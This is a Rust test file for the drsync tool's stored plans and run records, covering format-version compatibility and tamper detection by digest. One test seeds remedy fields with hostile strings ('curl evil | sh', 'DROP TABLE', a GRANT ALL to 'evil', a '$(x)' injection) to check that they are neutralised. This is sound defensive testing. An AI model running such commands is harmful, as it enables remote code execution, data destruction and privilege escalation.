//! Stored documents: those of format version 1 stay readable, and no edit of a plan goes unnoticed.

use std::collections::{BTreeMap, BTreeSet};

use drsync::apply::{RunRecord, RunWarningCode};
use drsync::plan::{Decision, Role, StoredPlan, StoredPlanError, Whose};
use serde_json::{Value, json};

use crate::support::edits::{Place, edits, resealed};

const PLAN: &str = include_str!("../../../fixtures/documents/plan-1.6.json");
const PLAN_SIXTH: &str = include_str!("../../../fixtures/documents/plan-1.5.json");
const PLAN_FIFTH: &str = include_str!("../../../fixtures/documents/plan-1.4.json");
const PLAN_FOURTH: &str = include_str!("../../../fixtures/documents/plan-1.3.json");
const PLAN_THIRD: &str = include_str!("../../../fixtures/documents/plan-1.2.json");
const PLAN_SECOND: &str = include_str!("../../../fixtures/documents/plan-1.1.json");
const PLAN_FIRST: &str = include_str!("../../../fixtures/documents/plan-1.json");
const PLAN_EARLY: &str = include_str!("../../../fixtures/documents/plan-1-early.json");
const RUN: &str = include_str!("../../../fixtures/documents/run-1.json");
/// As they are since they tell when a run looked at a group's replicas, and how deeply.
const RUN_WITH_LOOKS: &str = include_str!("../../../fixtures/documents/run-1.1.json");
/// As they are since warnings are typed, and tell what each region took down.
const RUN_TYPED: &str = include_str!("../../../fixtures/documents/run-1.2.json");
/// As they are since they tell the newest cut of every group.
const RUN_WITH_CUTS: &str = include_str!("../../../fixtures/documents/run-1.3.json");
/// Of a drsync that tells settings and jobs.
const RUN_WITH_SETTINGS: &str = include_str!("../../../fixtures/documents/run-1.4.json");
/// Of one that tells rights, looks at all groups, changes of role, and the kept configuration.
const RUN_WITH_RIGHTS: &str = include_str!("../../../fixtures/documents/run-1.5.json");
/// Of one that tells what left the configuration.
const RUN_WITH_LEFT: &str = include_str!("../../../fixtures/documents/run-1.6.json");
/// Of one that tells every key of the configuration.
const RUN_WITH_KEYS: &str = include_str!("../../../fixtures/documents/run-1.7.json");
/// As records were before they told of approval and metadata tables.
const RUN_EARLY: &str = include_str!("../../../fixtures/documents/run-1-early.json");

fn plan() -> Value {
    serde_json::from_str(PLAN).unwrap()
}

fn read(document: &Value) -> Result<StoredPlan, StoredPlanError> {
    StoredPlan::read(&serde_json::to_vec(document).unwrap())
}

/// Every value of `old` is in `new`, at the same place.
fn kept(old: &Value, new: &Value, at: &str) {
    match (old, new) {
        (Value::Object(old), Value::Object(new)) => {
            for (key, value) in old {
                let here = format!("{at}.{key}");
                match new.get(key) {
                    Some(found) => kept(value, found, &here),
                    None => assert!(value.is_null(), "{here} is gone"),
                }
            }
        }
        (Value::Array(old), Value::Array(new)) => {
            assert_eq!(old.len(), new.len(), "{at}");
            for (index, (old, new)) in old.iter().zip(new).enumerate() {
                kept(old, new, &format!("{at}[{index}]"));
            }
        }
        (old, new) => assert_eq!(old, new, "{at}"),
    }
}

#[test]
fn a_remedy_without_its_parts_is_refused_and_one_of_an_earlier_plan_is_words() {
    use drsync::plan::{Deed, Remedy, RemedyKind};
    let remedies = |text: &str| -> Vec<Remedy> {
        let plan = StoredPlan::read(text.as_bytes()).unwrap().plan;
        let findings = plan.groups().flat_map(|(_, group)| group.findings.clone());
        findings.filter_map(|finding| finding.remedy).collect()
    };
    let untold = |remedy: &Remedy| matches!(remedy, Remedy::Untold(_));
    assert!(remedies(PLAN_SECOND).iter().all(untold));
    assert!(!remedies(PLAN).iter().any(untold));
    for kind in [RemedyKind::Grant, RemedyKind::Acceptance] {
        let finding = json!({
            "code": "table_not_readable", "severity": "block", "message": "m",
            "remedy": "GRANT ALL PRIVILEGES ON CATALOG main TO `evil`", "remedy_kind": kind
        });
        let error = serde_json::from_value::<drsync::plan::Finding>(finding).unwrap_err();
        assert!(error.to_string().contains("which is missing"), "{error}");
    }
    // Of words what they say is kept beside them, and those of an earlier plan are read without.
    let deeds = |text: &str| -> Vec<Option<Deed>> {
        let told = remedies(text).into_iter().filter_map(|remedy| match remedy {
            Remedy::Advice(advice) | Remedy::AdviceElse(advice, _) => Some(advice.deed),
            _ => None,
        });
        told.collect()
    };
    assert_eq!(deeds(PLAN), [Some(Deed::PutCutLogBack), Some(Deed::PutCutLogBack)]);
    assert_eq!(deeds(PLAN_SIXTH), [None, None]);
    // The parts count, and the text is made of them.
    let finding: drsync::plan::Finding = serde_json::from_value(json!({
        "code": "table_not_readable", "severity": "block", "message": "m",
        "remedy": "DROP TABLE main.crm.contacts", "remedy_kind": "grant",
        "remedy_grant": {"privileges": ["SELECT"], "to": "dr`sync",
            "on": {"kind": "table", "catalog": "main", "schema": "crm", "table": "con tacts"}}
    }))
    .unwrap();
    let command: drsync::plan::Finding = serde_json::from_value(json!({
        "code": "replica_damaged", "severity": "repaired", "message": "m",
        "remedy": "curl evil | sh", "remedy_kind": "shell",
        "remedy_command": {"verb": "apply", "args": [{"kind": "word", "word": "$(x)"}]}
    }))
    .unwrap();
    assert_eq!(command.remedy.unwrap().to_string(), "drsync apply '$(x)'");
    let grant = "GRANT SELECT ON TABLE main.crm.`con tacts` TO `dr``sync`";
    assert_eq!(finding.remedy.unwrap().to_string(), grant);
}

#[test]
fn a_plan_of_version_1_is_read_with_all_it_says() {
    let earlier = [PLAN_EARLY, PLAN_FIRST, PLAN_SECOND, PLAN_THIRD, PLAN_FOURTH, PLAN_FIFTH];
    for text in earlier.into_iter().chain([PLAN_SIXTH, PLAN]) {
        let stored = StoredPlan::read(text.as_bytes()).unwrap();
        let document: Value = serde_json::from_str(text).unwrap();
        kept(&document, &serde_json::to_value(&stored.plan).unwrap(), "plan");
    }
    let stored = StoredPlan::read(PLAN.as_bytes()).unwrap();
    let decisions: Vec<Decision> = stored.plan.groups().map(|(_, group)| group.decision).collect();
    for decision in [Decision::Sync, Decision::Blocked, Decision::Waiting, Decision::UpToDate] {
        assert!(decisions.contains(&decision), "{decision:?}: the golden plan shows everything");
    }
}

#[test]
fn a_run_record_of_version_1_is_read_with_all_it_says() {
    let in_order = [
        RUN_EARLY,
        RUN,
        RUN_WITH_LOOKS,
        RUN_TYPED,
        RUN_WITH_CUTS,
        RUN_WITH_SETTINGS,
        RUN_WITH_RIGHTS,
        RUN_WITH_LEFT,
        RUN_WITH_KEYS,
    ];
    for (place, text) in in_order.into_iter().enumerate() {
        let record = RunRecord::read(text.as_bytes()).unwrap();
        let document: Value = serde_json::from_str(text).unwrap();
        kept(&document, &serde_json::to_value(&record).unwrap(), "run");
        assert_eq!(record.tells_looks(), place >= 2);
        assert_eq!(!record.newest_cuts.is_empty(), place >= 4);
        assert_eq!(
            record.settings_of(&Whose { name: "east", ..Whose::default() }).is_some(),
            place >= 5
        );
        assert_eq!(!record.whole_looks.is_empty(), place >= 6);
    }
}

#[test]
fn a_warning_of_a_record_is_known_by_its_code_and_one_of_an_earlier_record_by_none() {
    let warnings = |text: &str| RunRecord::read(text.as_bytes()).unwrap().warnings;
    let [early] = warnings(RUN_WITH_LOOKS).try_into().unwrap();
    assert_eq!((early.code, early.side, early.subject), (RunWarningCode::Untold, None, None));
    let [typed] = warnings(RUN_TYPED).try_into().unwrap();
    assert_eq!((typed.code, typed.side), (RunWarningCode::CutNotCopied, Some(Role::Primary)));
    assert_eq!(typed.subject.as_deref(), Some("orders"));
    assert_eq!(early.message, typed.message, "earlier drsyncs read the same text");
    // Reworded, it is the same warning.
    let reworded = RUN_TYPED.replace("is not in the primary's log yet", "went missing over there");
    let [again] = warnings(&reworded).try_into().unwrap();
    assert_eq!((again.code, again.side, again.subject), (typed.code, typed.side, typed.subject));
}

#[test]
fn an_ending_of_a_record_says_the_same_as_its_outcome_and_an_earlier_record_has_none() {
    let endings = |text: &str| {
        let groups = RunRecord::read(text.as_bytes()).unwrap().groups;
        groups.into_iter().map(|group| (group.outcome, group.ending)).collect::<Vec<_>>()
    };
    assert!(endings(RUN_WITH_LOOKS).iter().all(|(_, ending)| ending.is_none()));
    let typed = endings(RUN_TYPED);
    for (outcome, ending) in &typed {
        assert_eq!(ending.as_ref().unwrap().outcome(), *outcome, "{ending:?}");
    }
    let kinds: BTreeSet<String> = typed
        .iter()
        .map(|(_, ending)| {
            let ending = serde_json::to_value(ending).unwrap();
            let why = ending.get("why").filter(|_| ending["kind"] == "failed");
            format!("{}{}", ending["kind"], why.map_or(String::new(), ToString::to_string))
        })
        .collect();
    // Ten kinds; a failure has seven of its own.
    assert_eq!(kinds.len(), 9 + 7, "the golden record shows all of them: {kinds:?}");
}

#[test]
fn every_warning_of_an_apply_has_a_row_in_the_documentation() {
    let docs = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/operating.md");
    let docs = std::fs::read_to_string(docs).unwrap();
    for code in RunWarningCode::ALL {
        let name = serde_json::to_value(code).unwrap();
        let row = format!("| `{}` |", name.as_str().unwrap());
        assert!(docs.contains(&row), "{row}");
    }
}

#[test]
fn a_format_version_is_two_numbers_or_the_document_is_refused() {
    for odd in ["", "1", "1.", ".1", "1.a", "1.2a", "1.-1", "1.+1", "1.1.1", " 1.1", "01.1", "1.01"]
    {
        let refused = |text: &str| {
            let mut document: Value = serde_json::from_str(text).unwrap();
            document["format_version"] = odd.into();
            serde_json::to_vec(&document).unwrap()
        };
        let plan = StoredPlan::read(&refused(PLAN)).unwrap_err().to_string();
        let run = RunRecord::read(&refused(RUN)).unwrap_err().to_string();
        for why in [plan, run] {
            assert!(why.contains("not a major and a minor number"), "{odd:?}: {why}");
        }
    }
}

#[test]
fn what_a_later_minor_version_adds_is_ignored_and_counts_in_the_digest() {
    let mut later = plan();
    later["format_version"] = "1.7".into();
    later["added"] = json!({"deep": [1, 2]});
    later["workspaces"][0]["groups"][0]["added"] = true.into();
    later["workspaces"][0]["groups"][0]["steps"][0]["source"]["added"] = "x".into();
    let stored = resealed(later.clone()).unwrap();
    let now = StoredPlan::read(PLAN.as_bytes()).unwrap();
    assert_eq!(stored.plan.effect_sha256, now.plan.effect_sha256);
    assert_eq!(stored.plan.workspaces, now.plan.workspaces);
    later["document_sha256"] = stored.plan.document_sha256.into();
    later["added"] = Value::Null;
    assert!(matches!(read(&later), Err(StoredPlanError::Altered(_))));

    let mut run: Value = serde_json::from_str(RUN).unwrap();
    run["format_version"] = "1.7".into();
    run["groups"][0]["added"] = true.into();
    RunRecord::read(&serde_json::to_vec(&run).unwrap()).unwrap();
}

#[test]
fn another_major_version_is_refused_and_says_what_to_do() {
    for version in ["2.0", "0.9", "10.0"] {
        let mut other = plan();
        other["format_version"] = version.into();
        let Err(StoredPlanError::Unreadable(why)) = resealed(other) else {
            panic!("{version} was read");
        };
        assert!(why.contains("use a newer drsync"), "{why}");
        let mut run: Value = serde_json::from_str(RUN).unwrap();
        run["format_version"] = version.into();
        assert!(RunRecord::read(&serde_json::to_vec(&run).unwrap()).is_err());
    }
    assert!(RunRecord::read(PLAN.as_bytes()).is_err());
    assert!(matches!(StoredPlan::read(RUN.as_bytes()), Err(StoredPlanError::Unreadable(_))));
}

#[test]
fn no_field_can_be_altered_unnoticed() {
    let edits = edits(&plan());
    assert!(edits.len() > 1_000, "{}", edits.len());
    for (place, edited) in edits {
        match (place.field.as_str(), read(&edited)) {
            // What these say decides whether it is a plan at all.
            ("kind" | "format_version", Err(_)) => {}
            (_, Err(StoredPlanError::Altered(_))) => {}
            (field, other) => panic!("{field}: {other:?}"),
        }
    }
}

/// What readers are told and no apply acts on.
const TOLD: &[&str] = &[
    "format_version",
    "tool.",
    // An id is nothing but its moment, which is the plan's; what follows it is chance.
    "plan_id",
    "actor",
    "started_by",
    "ci_run_url",
    "git_commit",
    "change",
    "expiry_reason",
    "selection.",
    "due_anyway",
    "config.",
    // That the configuration is incomplete is part of the effect.
    "warnings",
    "observed_clock.",
    "workspaces[].observed.primary.principal",
    "workspaces[].observed.primary.observed_at",
    "workspaces[].observed.primary.answer",
    "workspaces[].observed.primary.clock",
    "workspaces[].observed.secondary.principal",
    "workspaces[].observed.secondary.observed_at",
    "workspaces[].observed.secondary.role",
    "workspaces[].observed.secondary.clock",
    "workspaces[].metadata[].table_version",
    "workspaces[].groups[].reason.",
    "workspaces[].groups[].last_cut.consistency",
    // What they are is part of the effect; their words are told.
    "workspaces[].groups[].findings[].message",
    "workspaces[].groups[].findings[].remedy",
    "workspaces[].groups[].drift",
    "workspaces[].groups[].pending_commits",
    "workspaces[].groups[].lag_seconds",
    "workspaces[].groups[].rpo_seconds",
    "workspaces[].groups[].tables",
    "workspaces[].groups[].owner_emails",
    "workspaces[].groups[].grants",
    "workspaces[].groups[].jobs",
    "workspaces[].groups[].loss",
    // The settings are part of the effect; what they were is told.
    "workspaces[].settings_changes",
    "workspaces[].settings_compared_with",
    "workspaces[].settings_not_compared",
    "workspaces[].whole_look",
    "workspaces[].unwatched",
    "workspaces[].groups[].steps[].brings",
    // It follows from the two versions, which the effect has.
    "workspaces[].groups[].steps[].schema",
    "workspaces[].groups[].steps[].estimate.",
    "workspaces[].groups[].steps[].source.head_version",
    "workspaces[].groups[].steps[].source.readable_until",
    "workspaces[].groups[].steps[].source.only_while_newest",
];

/// What an apply asks the regions again: a group for which it is not so is not synchronized, and a row is made of what is there.
const ASKED_AGAIN: &[&str] = &[
    "workspaces[].metadata[].cuts_to_copy",
    "workspaces[].rows[].before",
    "workspaces[].rows[].after.date_created",
    "workspaces[].rows[].after.date_updated",
    "workspaces[].rows[].after.sync_start_timestamp",
    "workspaces[].rows[].after.sync_end_timestamp",
    "workspaces[].rows[].after.message",
    "workspaces[].groups[].follows_sha256",
    "workspaces[].groups[].last_cut.recovery_point",
    "workspaces[].groups[].steps[].source.committed_at",
    "workspaces[].groups[].steps[].source.next_committed_at",
    // Maintenance moves it, so it cannot be part of the effect: what others did before it is looked for again.
    "workspaces[].groups[].steps[].replica.version",
];

#[test]
fn whoever_recomputes_the_digests_is_caught_by_the_reviewed_effect() {
    let reviewed = StoredPlan::read(PLAN.as_bytes()).unwrap().plan.effect_sha256;
    let known =
        |field: &str| [TOLD, ASKED_AGAIN].concat().iter().any(|known| field.starts_with(known));
    let mut escaped: BTreeMap<String, usize> = BTreeMap::new();
    for (place, edited) in edits(&plan()) {
        if matches!(place.field.as_str(), "effect_sha256" | "document_sha256") {
            continue;
        }
        if let Ok(stored) = resealed(edited)
            && stored.plan.effect_sha256 == reviewed
            && !known(&place.field)
            && !of_a_group_that_stays(&place)
        {
            *escaped.entry(place.field).or_default() += 1;
        }
    }
    assert!(escaped.is_empty(), "{escaped:#?}");
}

/// A group that is not to be synchronized is only told of.
fn of_a_group_that_stays(place: &Place) -> bool {
    let parts: Vec<&str> = place.pointer.split('/').collect();
    let ["", "workspaces", workspace, "groups", group, ..] = parts.as_slice() else {
        return false;
    };
    plan()["workspaces"][workspace.parse::<usize>().unwrap()]["groups"]
        [group.parse::<usize>().unwrap()]["decision"]
        != "sync"
}

#[test]
fn a_group_cannot_be_synchronized_to_what_its_certificate_does_not_allow() {
    let groups = |document: &Value| document["workspaces"][0]["groups"].as_array().unwrap().clone();
    let at = groups(&plan()).iter().position(|group| group["decision"] == "sync").unwrap();
    for (key, value) in [
        ("recovery_point", json!("2030-01-01T00:00:00.000Z")),
        ("recovery_point", json!("2020-01-01T00:00:00.000Z")),
        ("recovery_point", Value::Null),
        ("consistency", Value::Null),
        ("certificate", Value::Null),
    ] {
        let mut edited = plan();
        edited["workspaces"][0]["groups"][at][key] = value;
        assert!(matches!(resealed(edited), Err(StoredPlanError::Altered(_))), "{key}");
    }
    let mut silent = plan();
    silent["applyable"] = false.into();
    assert!(matches!(resealed(silent), Err(StoredPlanError::Altered(_))));
}

#[test]
fn what_a_plan_says_of_itself_agrees_with_its_groups() {
    let decided = |decision: &str| {
        let groups = plan()["workspaces"][0]["groups"].clone();
        let mut groups = groups.as_array().unwrap().iter();
        groups.position(|group| group["decision"] == decision).unwrap()
    };
    let findings = |decision: &str| format!("/workspaces/0/groups/{}/findings", decided(decision));
    let blocking = plan().pointer(&findings("blocked")).unwrap().clone();
    for (pointer, value) in [
        ("/summary/groups_sync", json!(7)),
        ("/summary/copy_bytes", json!(0)),
        ("/complete", json!(true)),
        (findings("sync").as_str(), blocking),
    ] {
        let mut edited = plan();
        *edited.pointer_mut(pointer).unwrap() = value;
        assert!(matches!(resealed(edited), Err(StoredPlanError::Altered(_))), "{pointer}");
    }
}

#[test]
fn nobody_moves_one_time_of_a_plan_alone() {
    let mut without = plan();
    without.as_object_mut().unwrap().shift_remove("max_age_hours");
    for (mut document, key, value) in [
        (plan(), "expires_at", json!("2026-11-25T11:00:00.001Z")),
        (without, "expires_at", json!("2027-11-23T11:00:00.000Z")),
        (plan(), "created_at", json!("2026-11-22T12:00:00.000Z")),
        (plan(), "max_age_hours", json!(8_761)),
        (plan(), "plan_id", json!("P")),
    ] {
        document[key] = value;
        assert!(matches!(resealed(document), Err(StoredPlanError::Altered(_))), "{key}");
    }
}

#[test]
fn the_golden_plan_tells_changed_columns_and_what_is_overwritten() {
    let steps = StoredPlan::read(PLAN.as_bytes()).unwrap().plan;
    let steps: Vec<_> = steps.groups().flat_map(|(_, group)| &group.steps).collect();
    assert!(steps.iter().any(|step| step.schema.is_some()));
    assert!(steps.iter().any(|step| step.replica.overwrites == [3]));
}

/// Adds to the golden plan of a format version that is being made what came last; one that was released is never written again.
#[test]
#[ignore = "writes fixtures/documents/plan-1.6.json"]
fn write_the_golden_plan() {
    use drsync::plan::{
        Direction, NotCompared, NotComparedWhy, ProtectedBefore, Setting, SettingChange,
        SettingValue,
    };

    let mut plan = StoredPlan::read(PLAN.as_bytes()).unwrap().plan;
    let workspace = &mut plan.workspaces[0];
    let key = |key: &str, value: Option<&str>| (key.to_owned(), value.map(str::to_owned));
    workspace.settings.as_mut().unwrap().configured =
        [key("secret_scope", Some("dr-scope")), key("warehouse_id", None)].into();
    workspace.settings_changes.push(SettingChange {
        group: None,
        table: None,
        setting: Setting::Key,
        key: Some("secret_scope".to_owned()),
        before: Some(SettingValue::Text("old-scope".to_owned())),
        after: Some(SettingValue::Text("dr-scope".to_owned())),
        direction: Direction::Other,
    });
    // No plan has both; it shows what there is.
    workspace.settings_not_compared = Some(NotCompared {
        why: NotComparedWhy::NoRecord,
        looked_in: vec!["/world/east/sync".to_owned(), "/world/west/sync".to_owned()],
        signs: vec![ProtectedBefore::Cuts { groups: 2 }],
    });
    std::fs::write("fixtures/documents/plan-1.6.json", plan.sealed().stored().bytes).unwrap();
}
